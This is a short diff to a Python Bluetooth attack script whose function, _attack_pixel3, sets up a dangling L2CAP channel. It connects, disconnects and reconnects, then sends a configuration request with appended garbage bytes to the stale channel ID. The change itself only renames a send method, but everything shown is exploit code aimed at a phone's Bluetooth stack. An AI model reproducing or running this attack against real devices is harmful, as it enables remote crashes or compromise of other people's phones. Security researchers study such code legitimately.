@@ -31,10 +31,10 @@ def _attack_pixel3() -> tuple[object, str]:
     queue = PacketQueue(link)
 
     # Connect/disconnect/reconnect so CID 0x0040 dangles, then strike.
-    first = queue.exchange(connection_request(psm=Psm.SDP, scid=0x0070))
+    first = queue.send(connection_request(psm=Psm.SDP, scid=0x0070))
     stale = first[0].fields["dcid"]
-    queue.exchange(disconnection_request(dcid=stale, scid=0x0070, identifier=2))
-    queue.exchange(connection_request(psm=Psm.SDP, scid=0x0071, identifier=3))
+    queue.send(disconnection_request(dcid=stale, scid=0x0070, identifier=2))
+    queue.send(connection_request(psm=Psm.SDP, scid=0x0071, identifier=3))
 
     attack = configuration_request(dcid=stale, identifier=4)
     attack.garbage = bytes.fromhex("D23A910E")
